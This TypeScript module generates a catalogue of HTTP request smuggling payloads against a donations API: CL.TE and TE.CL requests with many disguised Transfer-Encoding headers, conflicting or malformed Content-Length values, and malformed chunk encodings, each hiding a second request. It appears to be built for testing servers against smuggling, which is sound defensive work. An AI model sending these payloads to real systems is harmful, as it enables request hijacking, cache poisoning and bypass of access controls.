/** One request that is ambiguous, and in which another one hides. */
export interface SmugglingPayload {
  name: string;
  bytes: Buffer;
}

type Build = (hidden: string) => string;

const start = 'POST /api/donations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n';
const chunked = 'Transfer-Encoding: chunked';
const length = (body: string): string => `Content-Length: ${Buffer.byteLength(body)}`;
const hex = (body: string): string => Buffer.byteLength(body).toString(16);
const request = (headers: string, body: string, line = start): string => `${line}${headers}\r\n\r\n${body}`;

/** A body that has ended for whoever reads chunks, and goes on for whoever counts bytes. */
const endsAsChunks: Build = (hidden) => `0\r\n\r\n${hidden}`;
/** A body that has ended after four bytes for whoever counts, and goes on for whoever reads chunks. */
const endsByCount: Build = (hidden) => `${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`;

/** Ways to write the header so that one reader takes it for `chunked` and another does not. */
const disguises: Record<string, string> = {
  plain: chunked,
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a tab before the value': 'Transfer-Encoding:\tchunked',
  'a tab before the colon': 'Transfer-Encoding\t: chunked',
  'a vertical tab': 'Transfer-Encoding:\u000bchunked',
  'a zero byte in the name': 'Transfer-Encoding\0: chunked',
  'a zero byte in the value': 'Transfer-Encoding: chunked\0',
  'another coding': 'Transfer-Encoding: xchunked',
  'chunked, then identity': 'Transfer-Encoding: chunked, identity',
  'identity, then chunked': 'Transfer-Encoding: identity, chunked',
  'chunked twice': 'Transfer-Encoding: chunked, chunked',
  'two headers, the second another': `${chunked}\r\nTransfer-Encoding: identity`,
  'two headers, the first another': `Transfer-Encoding: identity\r\n${chunked}`,
  'in quotes': 'Transfer-Encoding: "chunked"',
  'with a parameter': 'Transfer-Encoding: chunked;q=1',
  'an underscore': 'Transfer_Encoding: chunked',
  'an obsolete fold in the value': 'Transfer-Encoding:\r\n chunked',
  'as the fold of another header': `X-Other: 1\r\n ${chunked}`,
  'after a bare line feed': `X-Other: 1\n${chunked}`,
  'after a bare carriage return': `X-Other: 1\r${chunked}`,
  'listed as of this connection': `Connection: Transfer-Encoding\r\n${chunked}`,
};

/** Not even a lenient reader takes these for the header, so that what follows the four bytes is a request of its own. */
const honestly = new Set(['an underscore', 'as the fold of another header']);
const shortLength =
  (header: string): Build =>
  (hidden) =>
    request(`${header}\r\nContent-Length: 4`, endsByCount(hidden));

const lengths: Record<string, Build> = {
  'zero, then right': (hidden) => request(`Content-Length: 0\r\n${length(hidden)}`, hidden),
  'right, then zero': (hidden) => request(`${length(hidden)}\r\nContent-Length: 0`, hidden),
  'two in one header': (hidden) => request(`${length(hidden)}, 0`, hidden),
  'a plus sign': (hidden) => request(length(hidden).replace(': ', ': +'), hidden),
  'a minus sign': (hidden) => request('Content-Length: -1', hidden),
  hexadecimal: (hidden) => request(`Content-Length: 0x${hex(hidden)}`, hidden),
  'a zero and a space': (hidden) => request(`Content-Length: 0 ${Buffer.byteLength(hidden)}`, hidden),
  'a space before the colon': (hidden) => request(length(hidden).replace(':', ' :'), hidden),
  'an obsolete fold': (hidden) => request(length(hidden).replace(': ', ':\r\n '), hidden),
  'after a bare line feed': (hidden) => request(`X-Other: 1\n${length(hidden)}`, hidden),
  'listed as of this connection': (hidden) =>
    request(`Connection: keep-alive, Content-Length\r\n${length(hidden)}`, hidden),
  'more than any number': (hidden) => request(`Content-Length: ${'9'.repeat(30)}`, hidden),
  'in a GET': (hidden) => request(length(hidden), hidden, 'GET /api/config HTTP/1.1\r\nHost: x\r\n'),
  'in a GET that asks for an upgrade': (hidden) =>
    request(
      `Connection: Upgrade\r\nUpgrade: websocket\r\n${length(hidden)}`,
      hidden,
      'GET /api/config HTTP/1.1\r\nHost: x\r\n',
    ),
  'after 20 KB of headers': (hidden) =>
    request(`X-Other: ${'x'.repeat(20_000)}\r\n${length(hidden)}`, hidden),
  'with Expect': (hidden) => request(`Expect: 100-continue\r\n${length(hidden)}`, hidden),
  'with an unknown Expect': (hidden) => request(`Expect: 200-ok\r\n${length(hidden)}`, hidden),
};

const chunks: Record<string, Build> = {
  'an extension with a bare line feed': (hidden) => request(chunked, `1;a\nx\r\n0\r\n\r\n${hidden}`),
  'an extension that hides its line end': (hidden) => request(chunked, `0;\n\r\n\r\n${hidden}`),
  'bare line feeds': (hidden) => request(chunked, `0\n\n${hidden}`),
  'a size with a prefix': (hidden) => request(chunked, `0x0\r\n\r\n${hidden}`),
  'a size with a sign': (hidden) => request(chunked, `+0\r\n\r\n${hidden}`),
  'a negative size': (hidden) => request(chunked, `-0\r\n\r\n${hidden}`),
  'a size past 64 bits': (hidden) => request(chunked, `10000000000000000\r\n\r\n${hidden}`),
  'no size': (hidden) => request(chunked, `\r\n\r\n${hidden}`),
  'data longer than its size': (hidden) => request(chunked, `1\r\nxx0\r\n\r\n${hidden}`),
  'a trailer that is a length': (hidden) =>
    request(
      `${chunked}\r\nTrailer: Content-Length`,
      `0\r\n${length(hidden)}\r\nTransfer-Encoding: x y\r\n\n\n${hidden}`,
    ),
  'in HTTP/1.0': (hidden) =>
    request(
      `Connection: keep-alive\r\n${chunked}\r\n${length(endsAsChunks(hidden))}`,
      endsAsChunks(hidden),
      start.replace('1.1', '1.0'),
    ),
};

/** Every payload, with the request of which nobody must ever hear. It asks for an account, so that its traces stay. */
export function listPayloads(hide: (name: string) => string): SmugglingPayload[] {
  const builds: [string, Build][] = [
    ...Object.entries(disguises).flatMap(([way, header]): [string, Build][] => [
      [
        `CL.TE, ${way}`,
        (hidden) => request(`${length(endsAsChunks(hidden))}\r\n${header}`, endsAsChunks(hidden)),
      ],
      ...(honestly.has(way) ? [] : [[`TE.CL, ${way}`, shortLength(header)] satisfies [string, Build]]),
    ]),
    ...Object.entries(lengths).map(([way, build]): [string, Build] => [`length, ${way}`, build]),
    ...Object.entries(chunks).map(([way, build]): [string, Build] => [`chunks, ${way}`, build]),
  ];
  return builds.map(([name, build]) => ({ name, bytes: Buffer.from(build(hide(name)), 'latin1') }));
}
